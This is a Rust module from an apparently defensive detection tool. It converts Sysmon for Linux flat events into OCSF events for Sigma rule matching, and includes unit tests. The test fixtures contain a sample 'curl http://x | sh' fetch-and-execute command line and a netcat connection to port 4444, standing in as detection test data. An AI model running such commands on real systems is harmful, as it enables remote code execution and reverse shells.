//! Flat events as Sysmon for Linux writes them (and as SigmaHQ names their fields): one JSON
//! object per event with an `EventID` and Sigma field names (`Image`, `CommandLine`,
//! `ParentImage`, `DestinationIp`, `TargetFilename`, …). They become OCSF events through the
//! same field maps the rules compile against, read backwards: each field is written to the
//! first OCSF path its logsource's map names, so a rule matches the converted event exactly
//! when it would match the flat one.
//!
//! | `EventID` | logsource category | OCSF class |
//! |---|---|---|
//! | 1 | `process_creation` | Process Activity 1007 |
//! | 3 | `network_connection` | Network Activity 4001 |
//! | 11 | `file_event` | File System Activity 1001 |
//! | 23, 26 | `file_delete` | File System Activity 1001 |
//!
//! `UtcTime` (`2024-03-05 10:11:12.123`, UTC) gives the event time; `Computer` or `Hostname`
//! the device. `Hashes` (`SHA256=…,MD5=…`) becomes the file's fingerprints. A field the map
//! does not name is kept under `unmapped`, so nothing is lost.

use serde_json::{Map, Value, json};

use crate::fieldmap::{FieldMaps, LogSource};

/// Why a flat event cannot become an OCSF event.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum FlatError {
    /// Not a JSON object.
    #[error("a flat event must be a JSON object")]
    NotAnObject,
    /// No `EventID`.
    #[error("a flat event needs an EventID (1, 3, 11, 23 or 26)")]
    NoEventId,
    /// An `EventID` Vigil has no logsource for.
    #[error(
        "EventID {0} is not one Vigil maps (1 process creation, 3 network connection, 11 file event, 23/26 file delete)"
    )]
    UnknownEventId(i64),
    /// The logsource has no field map.
    #[error("EventID {id}: no field map for logsource category {category}")]
    NoMap {
        /// The event's id.
        id: i64,
        /// Its Sigma category.
        category: &'static str,
    },
    /// `UtcTime` is not a time.
    #[error("UtcTime {0:?} is not a time like 2024-03-05 10:11:12.123")]
    BadTime(String),
}

/// The Sigma logsource category of a Sysmon `EventID`.
pub fn category(event_id: i64) -> Option<&'static str> {
    match event_id {
        1 => Some("process_creation"),
        3 => Some("network_connection"),
        11 => Some("file_event"),
        23 | 26 => Some("file_delete"),
        _ => None,
    }
}

/// Whether a JSON object is a flat event (it has an `EventID` and no OCSF `class_uid`).
pub fn is_flat(doc: &Value) -> bool {
    doc.get("EventID").is_some() && doc.get("class_uid").is_none()
}

/// The OCSF document for a flat event; `now_ms` is its time when it has no `UtcTime`. The
/// document has no `metadata.uid`: the caller names the event.
pub fn to_ocsf(doc: &Value, maps: &FieldMaps, now_ms: i64) -> Result<Value, FlatError> {
    let obj = doc.as_object().ok_or(FlatError::NotAnObject)?;
    let id = obj
        .get("EventID")
        .and_then(|v| v.as_i64().or_else(|| v.as_str()?.trim().parse().ok()))
        .ok_or(FlatError::NoEventId)?;
    let category = category(id).ok_or(FlatError::UnknownEventId(id))?;
    let map = maps
        .for_logsource(&LogSource {
            category: Some(category.into()),
            product: Some("linux".into()),
            service: None,
        })
        .ok_or(FlatError::NoMap { id, category })?;
    let time = match obj.get("UtcTime").and_then(Value::as_str) {
        Some(t) => parse_utc(t).ok_or_else(|| FlatError::BadTime(t.to_owned()))?,
        None => now_ms,
    };
    let mut out = json!({
        "class_uid": map.class_uid,
        "time": time,
        "metadata": { "product": { "name": "Sysmon for Linux (flat)" }, "log_name": category },
    });
    let activity = match id {
        23 | 26 => Some(4),
        _ => map.activity_id,
    };
    if let Some(a) = activity {
        out["activity_id"] = json!(a);
    }
    let mut unmapped = Map::new();
    for (key, value) in obj {
        match key.as_str() {
            "EventID" | "UtcTime" => {}
            "Computer" | "Hostname" => set(&mut out, "device.hostname", value.clone()),
            "Hashes" => match (value.as_str(), map.paths(key)) {
                (Some(text), Some([path, ..])) => set(&mut out, path, fingerprints(text)),
                _ => {
                    unmapped.insert(key.clone(), value.clone());
                }
            },
            _ => match map.paths(key) {
                Some([path, ..]) => set(&mut out, path, value.clone()),
                _ => {
                    unmapped.insert(key.clone(), value.clone());
                }
            },
        }
    }
    if id == 3 {
        // Sysmon's `Initiated` is the direction: OCSF 2 outbound, 1 inbound.
        let initiated = obj.get("Initiated").map(|v| match v {
            Value::Bool(b) => *b,
            other => other
                .as_str()
                .is_some_and(|s| s.eq_ignore_ascii_case("true")),
        });
        if let Some(outbound) = initiated {
            set(
                &mut out,
                "connection_info.direction_id",
                json!(if outbound { 2 } else { 1 }),
            );
        }
    }
    if !unmapped.is_empty() {
        let slot = out.as_object_mut().and_then(|o| {
            o.entry("unmapped")
                .or_insert_with(|| json!({}))
                .as_object_mut()
        });
        if let Some(slot) = slot {
            slot.extend(unmapped);
        }
    }
    Ok(out)
}

/// Writes `value` at the dotted `path`, creating objects on the way (never replacing a
/// non-object: the first writer of a path wins).
fn set(doc: &mut Value, path: &str, value: Value) {
    let mut at = doc;
    let mut parts = path.split('.').peekable();
    while let Some(part) = parts.next() {
        let Some(obj) = at.as_object_mut() else {
            return;
        };
        if parts.peek().is_none() {
            obj.entry(part).or_insert(value);
            return;
        }
        at = obj.entry(part).or_insert_with(|| json!({}));
    }
}

/// `SHA256=ab…,MD5=cd…` as OCSF fingerprints.
fn fingerprints(text: &str) -> Value {
    let prints: Vec<Value> = text
        .split(',')
        .filter_map(|pair| pair.split_once('='))
        .map(|(alg, hex)| {
            let (id, name) = match alg.trim().to_ascii_uppercase().as_str() {
                "MD5" => (1, "MD5"),
                "SHA1" | "SHA-1" => (2, "SHA-1"),
                "SHA256" | "SHA-256" => (3, "SHA-256"),
                "SHA512" | "SHA-512" => (4, "SHA-512"),
                _ => (99, "Other"),
            };
            json!({ "algorithm_id": id, "algorithm": name, "value": hex.trim().to_ascii_lowercase() })
        })
        .collect();
    Value::Array(prints)
}

/// `YYYY-MM-DD HH:MM:SS[.fff]` (or with `T`, optional `Z`) in UTC, as ms since the epoch.
fn parse_utc(text: &str) -> Option<i64> {
    let text = text.trim().trim_end_matches('Z');
    let (date, clock) = text.split_once([' ', 'T'])?;
    let mut d = date.splitn(3, '-').map(str::parse::<i64>);
    let (y, m, day) = (d.next()?.ok()?, d.next()?.ok()?, d.next()?.ok()?);
    let (hms, frac) = clock.split_once('.').unwrap_or((clock, "0"));
    let mut t = hms.splitn(3, ':').map(str::parse::<i64>);
    let (h, min, s) = (t.next()?.ok()?, t.next()?.ok()?, t.next()?.ok()?);
    if !(1..=12).contains(&m) || !(1..=31).contains(&day) || h > 23 || min > 59 || s > 60 {
        return None;
    }
    let digits: String = frac.chars().take(3).collect();
    let ms: i64 = format!("{digits:0<3}").parse().ok()?;
    Some((days_from_civil(y, m, day) * 86_400 + h * 3600 + min * 60 + s) * 1000 + ms)
}

/// Days since 1970-01-01 of a proleptic Gregorian date (Howard Hinnant's algorithm).
fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_process_creation_lands_on_the_paths_the_rules_read() {
        let maps = FieldMaps::builtin().unwrap();
        let flat = json!({
            "EventID": 1, "UtcTime": "2024-03-05 10:11:12.123", "Computer": "web-1",
            "Image": "/usr/bin/curl", "CommandLine": "curl http://x | sh",
            "ParentImage": "/bin/bash", "User": "root", "ProcessId": "4242",
            "Hashes": "SHA256=ABCD,MD5=EF01", "RuleName": "-"
        });
        let doc = to_ocsf(&flat, &maps, 0).unwrap();
        assert_eq!(doc["class_uid"], 1007);
        assert_eq!(doc["activity_id"], 1);
        assert_eq!(doc["time"], 1_709_633_472_123i64);
        assert_eq!(doc["device"]["hostname"], "web-1");
        assert_eq!(doc["process"]["file"]["path"], "/usr/bin/curl");
        assert_eq!(doc["process"]["cmd_line"], "curl http://x | sh");
        assert_eq!(doc["actor"]["process"]["file"]["path"], "/bin/bash");
        assert_eq!(doc["process"]["user"]["name"], "root");
        assert_eq!(doc["process"]["file"]["hashes"][0]["value"], "abcd");
        assert_eq!(doc["process"]["file"]["hashes"][1]["algorithm_id"], 1);
        assert_eq!(doc["unmapped"]["RuleName"], "-");
    }

    #[test]
    fn a_network_connection_carries_its_direction() {
        let maps = FieldMaps::builtin().unwrap();
        let flat = json!({"EventID": "3", "Initiated": "true", "DestinationIp": "10.1.2.3",
                          "DestinationPort": 4444, "Image": "/bin/nc"});
        let doc = to_ocsf(&flat, &maps, 5).unwrap();
        assert_eq!(doc["class_uid"], 4001);
        assert_eq!(doc["time"], 5);
        assert_eq!(doc["dst_endpoint"]["ip"], "10.1.2.3");
        assert_eq!(doc["dst_endpoint"]["port"], 4444);
        assert_eq!(doc["connection_info"]["direction_id"], 2);
        assert_eq!(doc["actor"]["process"]["file"]["path"], "/bin/nc");
    }

    #[test]
    fn bad_input_says_what_is_wrong() {
        let maps = FieldMaps::builtin().unwrap();
        assert_eq!(to_ocsf(&json!([1]), &maps, 0), Err(FlatError::NotAnObject));
        assert_eq!(
            to_ocsf(&json!({"Image": "/x"}), &maps, 0),
            Err(FlatError::NoEventId)
        );
        assert_eq!(
            to_ocsf(&json!({"EventID": 8}), &maps, 0),
            Err(FlatError::UnknownEventId(8))
        );
        assert!(matches!(
            to_ocsf(&json!({"EventID": 1, "UtcTime": "yesterday"}), &maps, 0),
            Err(FlatError::BadTime(_))
        ));
        assert!(is_flat(&json!({"EventID": 1})));
        assert!(!is_flat(&json!({"class_uid": 1007})));
    }

    #[test]
    fn utc_times_convert_exactly() {
        assert_eq!(parse_utc("1970-01-01 00:00:00.000"), Some(0));
        assert_eq!(parse_utc("2000-02-29T23:59:59Z"), Some(951_868_799_000));
        assert_eq!(parse_utc("2024-13-01 00:00:00"), None);
    }
}
